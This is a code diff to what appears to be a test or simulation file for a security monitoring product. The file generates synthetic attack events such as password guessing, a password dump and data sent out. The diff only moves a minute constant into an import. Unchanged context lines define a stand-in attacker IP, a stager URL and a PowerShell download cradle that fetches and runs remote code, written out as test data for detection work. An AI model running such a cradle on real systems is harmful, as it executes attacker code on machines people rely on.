@@ -3,6 +3,7 @@
  * server, a password dump, and contracts packed and sent out. Sent through two documented intakes: rsyslog and the bulk API.
  */
 import { setTimeout as pause } from 'node:timers/promises';
+import { minuteMs } from '@parapet/contract/rules/duration.ts';
 import { networkConnect, newProcess, processCreate, system32 } from '@parapet/world/events/sysmon.ts';
 import { logon } from '@parapet/world/events/windows.ts';
 import { encoded } from '@parapet/world/everyday/programs.ts';
@@ -14,7 +15,6 @@ import { eventsWith } from './api.ts';
 import { ingestKey, type Portal } from './portal.ts';
 import { startRsyslog, syslogTime } from './rsyslog.ts';
 
-const minuteMs = 60_000;
 const guesser = '198.51.100.23';
 export const stager = 'http://198.51.100.77/stage.ps1';
 export const cradle = `IEX (New-Object Net.WebClient).DownloadString('${stager}')`;
